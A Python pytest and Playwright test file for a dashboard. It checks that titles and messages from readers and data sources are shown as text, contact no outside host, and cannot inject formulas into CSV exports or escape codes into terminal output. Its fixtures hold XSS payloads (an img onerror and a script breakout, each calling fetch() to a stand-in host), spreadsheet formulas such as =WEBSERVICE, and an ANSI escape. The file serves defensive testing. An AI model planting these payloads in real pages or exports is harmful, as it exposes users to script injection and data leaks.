"""Is what a reader or a source wrote shown as written, and obeyed by no browser, no spreadsheet and no terminal?"""

import csv
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.pages.browser import CHROMIUM, WHY_SKIPPED, page_of, served, settled
from tests.pages.conftest import NOW, Desk
from tests.pipelines.desk import desk as project_in
from warehouse.folder import Warehouse
from warehouse.writer import Run, publishing

ELSEWHERE = "http://else.where"
TITLES = {
    "picture__in__markdown": f"![a]({ELSEWHERE}/a.png)",
    "link": f"[b]({ELSEWHERE}/b)",
    "picture_in_html": f'<img src="{ELSEWHERE}/c.png" onerror="fetch(`{ELSEWHERE}/d`)">',
    "script": f"</script><script>fetch(`{ELSEWHERE}/e`)</script><!--",
    "signs": r"$\frac{1}{2}$ :material/home: :red[f] :smile: **g** __h__ `i` it's",
    "formula": f'=WEBSERVICE("{ELSEWHERE}/j")',
    "second_cell": f"k;=HYPERLINK({ELSEWHERE}/k)",
}
SHARE = f"![l]({ELSEWHERE}/l.png) **m**"
SAID = f'<img src="{ELSEWHERE}/n.png"> ![o]({ELSEWHERE}/o.png) **p** \x1b[31mq'
LEFT_OUT = {
    'title = "two\\nlines"': "title holds a line break; write it on one line",
    'title = "a\\u202eb"': "title holds U+202E; write it on one line",
    '"**r**" = 1': "says **r**; a basket has a title, a reason and members",
}


@dataclass(frozen=True)
class Place:
    """A project with a `baskets.toml` of its own, in which the dashboard and its commands are started."""

    folder: Path
    environment: dict[str, str]

    def told(self, *command: str) -> str:
        whole = [sys.executable, "-m", "pipelines", *command]
        done = subprocess.run(whole, cwd=self.folder, env=self.environment, capture_output=True, text=True, check=False)
        assert "Traceback" not in done.stderr and done.returncode == 0, done.stderr
        return done.stdout


@pytest.fixture(scope="module")
def place(desk: Desk, tmp_path_factory: pytest.TempPathFactory) -> Place:
    """The desk's warehouse, in which a source has said something since, and a reader's own baskets."""
    folder = project_in(tmp_path_factory.mktemp("place"))
    members = 'members = ["MU", "WDC", "STX"]'
    right = [f"[{name}]\ntitle = '''{title}'''\n{members}" for name, title in TITLES.items()]
    wrong = [f"[wrong_{number}]\n{line}\n{members}" for number, line in enumerate(LEFT_OUT)]
    text = "\n".join([f"[names]\nNVDA = '''{SHARE}'''", *right, *wrong])
    (folder / "baskets.toml").write_text(text, encoding="utf-8")
    url = f"file:{folder / 'data'}"
    shutil.copytree(desk.environment["WAREHOUSE_URL"].removeprefix("file:"), folder / "data", symlinks=True)
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("PIPELINES_NOW", NOW)
        with publishing(Warehouse(url), Run.begin("refresh")) as draft:
            draft.note("fed_assets", "failed", message=f"fed_assets: {SAID}")
            draft.close("some failed")
    return Place(folder, desk.environment | {"WAREHOUSE_URL": url, "PYTHONPATH": str(folder)})


@pytest.fixture(scope="module")
def seen(place: Place, browser: Browser) -> Iterator[tuple[Page, set[str]]]:
    """A page to open the dashboard in, and who was asked for anything while it was looked at."""
    asked: set[str] = set()
    with served(os.environ | place.environment, place.folder) as address:
        page = page_of(browser)
        page.on("request", lambda request: asked.add(urlsplit(request.url).hostname or ""))
        page.goto(f"{address}/winners")
        settled(page)
        yield page, asked
        page.context.close()


in_a_browser = pytest.mark.skipif(CHROMIUM is None, reason=WHY_SKIPPED)


@pytest.mark.browser
@in_a_browser
def test_titles_of_a_readers_own_baskets_are_text_on_the_page_and_where_it_is_told_how_they_are_computed(seen):
    page, asked = seen
    page.get_by_text("The baskets", exact=True).last.click()
    expect(page.locator(".st-key-members")).to_be_attached()
    page.locator(".st-key-figure_each_basket").get_by_role("button", name="How is this computed").click()
    popover = page.get_by_test_id("stPopoverBody")
    for title in TITLES.values():
        expect(page.locator(".st-key-members").get_by_text(title, exact=True)).to_be_attached()
        expect(popover.get_by_text(f"{title}, total return")).to_be_visible()
    for said in LEFT_OUT.values():
        expect(page.get_by_text(said)).to_be_attached()
    expect(page.get_by_test_id("stException")).to_have_count(0)
    assert asked <= {"127.0.0.1", ""}


@pytest.mark.browser
@in_a_browser
def test_what_a_source_said_and_what_a_share_is_called_is_text_on_the_page_of_data(seen):
    page, asked = seen
    page.goto(page.url.replace("/winners", "/data"))
    settled(page)
    expect(page.locator(".st-key-failed").get_by_text(SAID.split(" \x1b")[0])).to_be_attached()
    page.get_by_text("Every series, by source").last.click()
    page.get_by_role("radio", name="Yahoo").click()
    expect(page.locator(".st-key-every_series").get_by_text(f"{SHARE}, close")).to_be_attached()
    expect(page.get_by_test_id("stException")).to_have_count(0)
    assert asked <= {"127.0.0.1", ""}


@pytest.mark.browser
@in_a_browser
def test_a_page_and_a_picture_that_are_passed_on_ask_nobody_for_anything(place, seen):
    page, asked = seen
    names = ("each_basket", *(f"{name}_index" for name in TITLES))
    place.told("snapshot", *names, "--format", "html,svg", "--out", "out")
    files = sorted(file for file in (place.folder / "out").iterdir() if file.suffix != ".json")
    assert len(files) == 2 * (1 + len(TITLES))
    for path in files:
        page.goto(path.as_uri())
        assert page.evaluate("document.querySelectorAll('svg image, svg a, main a, main h1 *').length") == 0
    assert asked <= {"127.0.0.1", ""}


def test_no_table_begins_a_cell_with_a_formula(place):
    place.told("snapshot", "each_basket", "formula_index", "second_cell_index", "--format", "csv", "--out", "rows")
    tables = [path.read_text(encoding="utf-8") for path in (place.folder / "rows").glob("*.csv")]
    tables += [place.told("list", "--format", "csv"), place.told("status", "--format", "csv")]
    cells = [cell for text in tables for row in csv.reader(text.splitlines()) for cell in row]
    begun = [part for cell in cells for part in cell.split(";") if part.lstrip()[:1] in ("=", "@", "+", "-")]
    assert len(tables) == 5 and begun == []
    assert f"'{TITLES['formula']}, total return" in cells


def test_no_command_breaks_and_none_hands_a_terminal_what_it_would_obey(place):
    commands = [["list"], ["status"], ["show", "script_index"], ["show", "WALCL"], ["refresh", "--dry-run"]]
    told = {command[-1]: place.told(*command) for command in commands}
    assert f"script_index: {TITLES['script']}, total return, index points" in told["script_index"]
    assert f"of its last reading: fed_assets: {SAID}".replace("\x1b", "·") in told["WALCL"]
    assert all(character.isprintable() or character == "\n" for text in told.values() for character in text)
